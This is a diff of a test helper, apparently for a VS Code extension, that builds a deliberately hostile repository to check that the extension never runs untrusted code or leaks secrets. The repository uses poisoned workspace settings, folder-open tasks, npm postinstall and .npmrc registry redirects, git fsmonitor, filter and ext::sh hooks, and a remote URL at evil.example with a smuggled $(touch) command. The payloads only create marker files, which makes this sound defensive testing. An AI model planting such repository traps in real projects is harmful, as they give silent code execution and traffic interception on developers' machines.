@@ -20,9 +20,9 @@ interface Manifest {
 }
 
 /** Settings of VS Code that redirect requests or run a program if VS Code reads them from a folder. */
-function vscodeSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
+function vscodeSettings(attackerOrigin: string, program: string, shell = program): Readonly<Record<string, unknown>> {
   return {
-    'http.proxy': evil,
+    'http.proxy': attackerOrigin,
     'http.proxyStrictSSL': false,
     'http.proxySupport': 'override',
     'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
@@ -31,9 +31,9 @@ function vscodeSettings(evil: string, program: string, shell = program): Readonl
     'git.path': program,
     'git.terminalAuthentication': true,
     'task.allowAutomaticTasks': 'on',
-    'terminal.integrated.env.linux': { HTTPS_PROXY: evil, BASH_ENV: shell },
+    'terminal.integrated.env.linux': { HTTPS_PROXY: attackerOrigin, BASH_ENV: shell },
     'terminal.integrated.automationProfile.linux': { path: shell },
-    'markdown.styles': [`${evil}/style.css`],
+    'markdown.styles': [`${attackerOrigin}/style.css`],
     'security.workspace.trust.enabled': false,
   };
 }
@@ -42,21 +42,31 @@ function vscodeSettings(evil: string, program: string, shell = program): Readonl
  * Returns malicious values for all settings of Contrail that are not an enum, for some settings that Contrail does not
  * have, and for settings of VS Code.
  */
-export function hostileSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
+export function hostileSettings(
+  attackerOrigin: string,
+  program: string,
+  shell = program,
+): Readonly<Record<string, unknown>> {
   const { contributes }: Manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
   const settings = contributes.configuration
     .flatMap(({ properties }) => Object.entries(properties))
     .filter(([, setting]) => setting.enum === undefined);
-  const existingSettings = settings.map(([id, { type }]): [string, unknown] => [id, type === 'boolean' ? true : evil]);
+  const existingSettings = settings.map(([id, { type }]): [string, unknown] => [
+    id,
+    type === 'boolean' ? true : attackerOrigin,
+  ]);
   const inventedSettings = ['server', 'baseUrl', 'url', 'apiKey', 'token', 'proxy', 'ca'].map(
-    (name): [string, unknown] => [`contrail.${name}`, evil],
+    (name): [string, unknown] => [`contrail.${name}`, attackerOrigin],
   );
-  return { ...Object.fromEntries([...existingSettings, ...inventedSettings]), ...vscodeSettings(evil, program, shell) };
+  return {
+    ...Object.fromEntries([...existingSettings, ...inventedSettings]),
+    ...vscodeSettings(attackerOrigin, program, shell),
+  };
 }
 
 export interface HostileOptions {
   /** The origin of the server to which the repository tries to redirect requests. */
-  readonly evil: string;
+  readonly attackerOrigin: string;
   /** A folder outside of the repository, in which each program that runs creates its marker file. */
   readonly markerFolder: string;
   /** A text in the files that Contrail must not read: `.env`, and a file that a symbolic link points to. */
@@ -68,7 +78,7 @@ export interface HostileOptions {
 /** Creates the repository in a folder, which may contain files. */
 export function makeHostileRepository(
   folder: string,
-  { evil, markerFolder: marks, secret, identifier }: HostileOptions,
+  { attackerOrigin: evil, markerFolder: marks, secret, identifier }: HostileOptions,
 ): GitRepository {
   mkdirSync(marks, { recursive: true });
   const markerPath = (name: string): string => join(marks, name);
@@ -77,7 +87,7 @@ export function makeHostileRepository(
   const repository = GitRepository.createEmpty(folder);
   repository.write('.vscode/settings.json', JSON.stringify(hostileSettings(evil, program, shell)));
   writePrograms(repository, evil, program, markerPath);
-  writeText(repository, { evil, markerFolder: marks, secret, identifier });
+  writeText(repository, { attackerOrigin: evil, markerFolder: marks, secret, identifier });
   writeLinks(folder, join(marks, '..', 'outside'), secret, identifier);
   repository.commit(`Begin\n\n[${identifier}](command:contrail.signOut) $(touch ${markerPath('message')})`);
   writeConfiguration(repository, markerPath);
@@ -99,11 +109,16 @@ function writeProgram(marks: string, name: string): string {
 }
 
 /** Writes configuration files that make tools run programs. VS Code runs the tasks when the user trusts the folder. */
-function writePrograms(repository: GitRepository, evil: string, program: string, mark: (name: string) => string): void {
+function writePrograms(
+  repository: GitRepository,
+  attackerOrigin: string,
+  program: string,
+  markerPath: (name: string) => string,
+): void {
   const shell = (name: string) => ({
     label: name,
     type: 'shell',
-    command: `touch '${mark(`vscode-${name}`)}'`,
+    command: `touch '${markerPath(`vscode-${name}`)}'`,
     runOptions: { runOn: 'folderOpen' },
   });
   repository.write(
@@ -121,12 +136,15 @@ function writePrograms(repository: GitRepository, evil: string, program: string,
     'package.json',
     JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }),
   );
-  repository.write('.npmrc', `registry=${evil}/\nproxy=${evil}\nscript-shell=${program}\n`);
+  repository.write('.npmrc', `registry=${attackerOrigin}/\nproxy=${attackerOrigin}\nscript-shell=${program}\n`);
   repository.write('.gitattributes', '*.md filter=evil diff=evil\n');
   repository.write('.editorconfig', 'root = true\n');
 }
 
-function writeText(repository: GitRepository, { evil, markerFolder: marks, secret, identifier }: HostileOptions): void {
+function writeText(
+  repository: GitRepository,
+  { attackerOrigin: evil, markerFolder: marks, secret, identifier }: HostileOptions,
+): void {
   repository.write(
     '.env',
     `PLANE_API_KEY=${secret}\nHTTPS_PROXY=${evil}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nTICKET=${identifier}\n`,
@@ -174,10 +192,10 @@ function writeLinks(folder: string, outside: string, secret: string, identifier:
 }
 
 /** Configures git to run programs. VS Code's git extension ignores the repository until the user trusts the folder. */
-function writeConfiguration(repository: GitRepository, mark: (name: string) => string): void {
-  const touch = (name: string): string => `touch '${mark(`git-${name}`)}'`;
-  repository.remote('origin', `ext::sh -c touch% ${mark('remote')}`);
-  repository.remote('other', `https://mara:token@evil.example/$(touch\${IFS}${mark('url')}).git`);
+function writeConfiguration(repository: GitRepository, markerPath: (name: string) => string): void {
+  const touch = (name: string): string => `touch '${markerPath(`git-${name}`)}'`;
+  repository.remote('origin', `ext::sh -c touch% ${markerPath('remote')}`);
+  repository.remote('other', `https://mara:token@evil.example/$(touch\${IFS}${markerPath('url')}).git`);
   repository.run('config', 'core.fsmonitor', `${touch('fsmonitor')}; false`);
   repository.run('config', 'core.sshCommand', touch('ssh'));
   repository.run('config', 'filter.evil.smudge', `${touch('filter')}; cat`);
